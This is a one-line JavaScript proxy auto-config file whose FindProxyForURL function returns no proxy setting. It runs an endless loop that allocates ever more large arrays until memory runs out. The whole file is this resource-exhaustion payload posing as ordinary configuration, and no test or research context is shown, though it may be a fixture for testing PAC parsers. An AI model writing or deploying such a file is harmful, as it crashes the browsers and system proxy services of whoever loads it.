function FindProxyForURL(url, host) { var a = []; for (;;) a.push(new Array(1 << 16).fill(host)); }
